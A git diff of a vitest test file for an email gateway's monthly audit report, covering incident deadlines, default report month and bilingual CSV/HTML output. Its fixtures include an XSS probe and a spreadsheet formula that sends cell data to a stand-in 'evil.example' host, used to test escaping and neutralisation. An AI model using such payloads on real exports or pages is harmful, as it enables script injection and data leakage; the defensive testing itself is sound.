@@ -3,7 +3,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { SqliteAuditStore } from '../../src/audit/sqlite-audit.js';
-import { type MonthlyReport, monthBounds, monthlyReport, previousMonth } from '../../src/audit/report.js';
+import { type MonthlyReport, defaultReportMonth, monthBounds, monthlyReport, previousMonth } from '../../src/audit/report.js';
 import { renderReportCsv } from '../../src/audit/report-csv.js';
 import { renderReportHtml } from '../../src/audit/report-html.js';
 import { REPORT_TIME, monthEvents } from './report-fixtures.js';
@@ -127,7 +127,19 @@ describe('monthlyReport', () => {
 
   it('lists incidents with the time to report, within 60 minutes or not, and the overdue one', () => {
     expect(october.incidents).toEqual([
-      { id: 'i0', openedAt: '2026-09-30T14:30:00.000Z', trigger: 'manual', openedBy: 'admin', messageId: 'm0', reportedAt: '2026-09-30T15:10:00.000Z', reportedBy: 'admin', minutesToReport: 40, withinLimit: true, status: 'reported-in-time' },
+      {
+        id: 'i0',
+        openedAt: '2026-09-30T14:30:00.000Z',
+        trigger: 'manual',
+        openedBy: 'admin',
+        messageId: 'm0',
+        deadline: '2026-09-30T15:30:00.000Z',
+        reportedAt: '2026-09-30T15:10:00.000Z',
+        reportedBy: 'admin',
+        minutesToReport: 40,
+        withinLimit: true,
+        status: 'reported-in-time',
+      },
       {
         id: 'i1',
         openedAt: '2026-10-20T01:00:00.000Z',
@@ -135,22 +147,80 @@ describe('monthlyReport', () => {
         openedBy: 'jiro@example.co.jp',
         messageId: 'h3',
         subject: '<script>alert(1)</script>',
+        deadline: '2026-10-20T02:00:00.000Z',
         reportedAt: '2026-10-20T01:42:00.000Z',
         reportedBy: 'outguard (for jiro@example.co.jp)',
         minutesToReport: 42,
         withinLimit: true,
         status: 'reported-in-time',
       },
-      { id: 'i2', openedAt: '2026-10-25T03:00:00.000Z', trigger: 'rule', openedBy: 'gateway', messageId: 'm3', withinLimit: null, status: 'overdue' },
-      { id: 'i3', openedAt: '2026-10-26T00:00:00.000Z', trigger: 'manual', openedBy: 'admin', reportedAt: '2026-10-26T01:30:00.000Z', reportedBy: 'admin', minutesToReport: 90, withinLimit: false, status: 'reported-late' },
+      { id: 'i2', openedAt: '2026-10-25T03:00:00.000Z', trigger: 'rule', openedBy: 'gateway', messageId: 'm3', deadline: '2026-10-25T04:00:00.000Z', withinLimit: null, status: 'overdue' },
+      {
+        id: 'i3',
+        openedAt: '2026-10-26T00:00:00.000Z',
+        trigger: 'manual',
+        openedBy: 'admin',
+        deadline: '2026-10-26T01:00:00.000Z',
+        reportedAt: '2026-10-26T01:30:00.000Z',
+        reportedBy: 'admin',
+        minutesToReport: 90,
+        withinLimit: false,
+        status: 'reported-late',
+      },
     ]);
-    // with a longer limit, i3 was in time
+    // without the incidents' records, a longer limit today makes i3 in time
     return monthlyReport(store, '2026-10', { incidentMinutes: 120, now: () => REPORT_TIME }).then((r) => expect(r.incidents.find((i) => i.id === 'i3')).toMatchObject({ withinLimit: true, status: 'reported-in-time' }));
+  });
+
+  it("judges each incident by its own deadline, not by today's incidentMinutes, as the incident pages do", async () => {
+    // i2 was opened with a 30-minute limit, i3 with a 120-minute one; today's setting is 1440 minutes
+    const deadlines = new Map([
+      ['i2', Date.parse('2026-10-25T03:30:00.000Z')],
+      ['i3', Date.parse('2026-10-26T02:00:00.000Z')],
+    ]);
+    const deadlineOf = (id: string) => Promise.resolve(deadlines.get(id));
+    // 45 minutes after i2 was opened: past its own deadline, well inside today's limit
+    const r = await monthlyReport(store, '2026-10', { incidentMinutes: 1440, deadlineOf, now: () => Date.parse('2026-10-25T03:45:00.000Z') });
+    expect(r.incidents.find((i) => i.id === 'i2')).toMatchObject({ deadline: '2026-10-25T03:30:00.000Z', status: 'overdue', withinLimit: null });
+    const later = await monthlyReport(store, '2026-10', { incidentMinutes: 10, deadlineOf, now: () => REPORT_TIME });
+    // reported after 90 minutes: in time against its own 120 minutes, though today's limit is 10
+    expect(later.incidents.find((i) => i.id === 'i3')).toMatchObject({ deadline: '2026-10-26T02:00:00.000Z', withinLimit: true, status: 'reported-in-time' });
+    // i1 has no record: today's limit (10 minutes) is all there is
+    expect(later.incidents.find((i) => i.id === 'i1')).toMatchObject({ deadline: '2026-10-20T01:10:00.000Z', status: 'reported-late' });
+    expect(renderReportHtml(r)).toMatch(/<tr data-incident="i2">[\s\S]*?<td class="time">2026-10-25 12:30<\/td>[\s\S]*?未報告・期限超過/);
   });
 
   it('an unreported incident still inside its limit is open, not overdue', async () => {
     const r = await monthlyReport(store, '2026-10', { now: () => Date.parse('2026-10-25T03:30:00.000Z') });
     expect(r.incidents.find((i) => i.id === 'i2')).toMatchObject({ status: 'open', withinLimit: null });
+  });
+});
+
+describe('defaultReportMonth: the month the report page opens on', () => {
+  it('is the previous month when it has events', async () => {
+    expect(await defaultReportMonth(store, Date.parse('2026-11-15T00:00:00.000Z'))).toBe('2026-10');
+  });
+
+  it('is the most recent month with events when the previous one has none: this month on the first days of use', async () => {
+    // 2026-12 (JST): November has events, so November
+    expect(await defaultReportMonth(store, Date.parse('2026-12-01T00:00:00.000Z'))).toBe('2026-11');
+    // 2027-01: December has none; the latest event is in November
+    expect(await defaultReportMonth(store, Date.parse('2027-01-10T00:00:00.000Z'))).toBe('2026-11');
+    // 2026-10-05: September has events (h0, m0, i0)
+    expect(await defaultReportMonth(store, Date.parse('2026-10-05T00:00:00.000Z'))).toBe('2026-09');
+    // a fresh install in 2026-09 (JST): August is empty, the events so far are this month's
+    expect(await defaultReportMonth(store, Date.parse('2026-09-30T12:00:00.000Z'))).toBe('2026-09');
+  });
+
+  it('is this month when the log is empty', async () => {
+    const d = fs.mkdtempSync(path.join(os.tmpdir(), 'outguard-report-empty-'));
+    const s = SqliteAuditStore.open(d);
+    try {
+      expect(await defaultReportMonth(s, Date.parse('2026-12-31T16:00:00.000Z'))).toBe('2027-01');
+    } finally {
+      await s.close();
+      fs.rmSync(d, { recursive: true, force: true });
+    }
   });
 });
 
@@ -163,24 +233,24 @@ describe('report CSV', () => {
     expect(text.startsWith('\uFEFF区分 / section,')).toBe(true);
     expect(text.endsWith('\r\n')).toBe(true);
     expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
-    expect(rows()).toContain('対象期間 / Period,2026-10,,,,,,"2026-10-01 00:00 〜 2026-11-01 00:00（日本時間、UTC+9） / 2026-10-01 00:00 to 2026-11-01 00:00 JST (UTC+9), end exclusive"');
-    expect(rows()).toContain('ルール別件数 / Messages by rule,first-time-domain,4,,,,,');
-    expect(rows()).toContain('条項別件数 / Messages by clause,遵守事項 第6-1,5,,,,,');
-    expect(rows()).toContain('処理別件数 / Events by action,保留 / held,5,,,,,');
-    expect(rows()).toContain('送信前の確認（保留） / Confirmation holds,保留から送信までの時間（中央値、分） / Median minutes from held to released,30,,,,,3 releases measured');
+    expect(rows()).toContain('対象期間 / Period,2026-10,,,,,,,"2026-10-01 00:00 〜 2026-11-01 00:00（日本時間、UTC+9） / 2026-10-01 00:00 to 2026-11-01 00:00 JST (UTC+9), end exclusive"');
+    expect(rows()).toContain('ルール別件数 / Messages by rule,first-time-domain,4,,,,,,');
+    expect(rows()).toContain('条項別件数 / Messages by clause,遵守事項 第6-1,5,,,,,,');
+    expect(rows()).toContain('処理別件数 / Events by action,保留 / held,5,,,,,,');
+    expect(rows()).toContain('送信前の確認（保留） / Confirmation holds,保留から送信までの時間（中央値、分） / Median minutes from held to released,30,,,,,,3 releases measured');
   });
 
   it('lists the incidents with their times in Japan time', () => {
     expect(rows()).toContain(
-      'インシデント（遵守事項 第2） / Incidents (clause 2),i1,期限内に報告 / reported in time,2026-10-20 10:00,2026-10-20 10:42,42,はい / yes,trigger: mistake; opened by: jiro@example.co.jp; reported by: outguard (for jiro@example.co.jp); message: h3; limit: 60 min',
+      'インシデント（遵守事項 第2） / Incidents (clause 2),i1,期限内に報告 / reported in time,2026-10-20 10:00,2026-10-20 11:00,2026-10-20 10:42,42,はい / yes,trigger: mistake; opened by: jiro@example.co.jp; reported by: outguard (for jiro@example.co.jp); message: h3',
     );
-    expect(rows().find((r) => r.includes(',i2,'))).toContain(',"未報告・期限超過 / overdue, not reported",2026-10-25 12:00,,,,');
+    expect(rows().find((r) => r.includes(',i2,'))).toContain(',"未報告・期限超過 / overdue, not reported",2026-10-25 12:00,2026-10-25 13:00,,,,');
     expect(rows().find((r) => r.includes(',i3,'))).toContain(',90,いいえ / no,');
   });
 
   it('neutralises a cell that would be a formula', () => {
     const domainRow = rows().find((r) => r.includes('hyperlink'))!;
-    expect(domainRow).toBe(`送信者ドメイン別件数 / Messages by sender domain,"'=hyperlink(""http://evil.example/?""&a1,""x"")",1,,,,,`);
+    expect(domainRow).toBe(`送信者ドメイン別件数 / Messages by sender domain,"'=hyperlink(""http://evil.example/?""&a1,""x"")",1,,,,,,`);
     for (const row of rows()) for (const cell of row.split(',')) expect(cell).not.toMatch(/^"?[=+\-@]/);
   });
 });
@@ -226,6 +296,13 @@ describe('report HTML', () => {
     expect(html).not.toContain('<script>alert(1)</script>');
     expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
     expect(html).toContain('=hyperlink(&quot;http://evil.example/?&quot;&amp;a1,&quot;x&quot;)');
+  });
+
+  it('shows a time under a minute in words, not as 0 minutes', () => {
+    const sameSecond = { ...october, holds: { ...october.holds, medianMinutesToRelease: 0.3 }, incidents: [{ ...october.incidents[1]!, minutesToReport: 0 }] };
+    const html = renderReportHtml(sameSecond);
+    expect(html).toMatch(/<tr data-incident="i1">[\s\S]*?<td class="n">1 分以内<span class="en" lang="en">under 1 min<\/span><\/td>/);
+    expect(html).toContain('<td class="n" id="median">1 分以内<span class="en" lang="en">under 1 min</span></td>');
   });
 
   it('carries the CSP nonce when it is served from a page', () => {
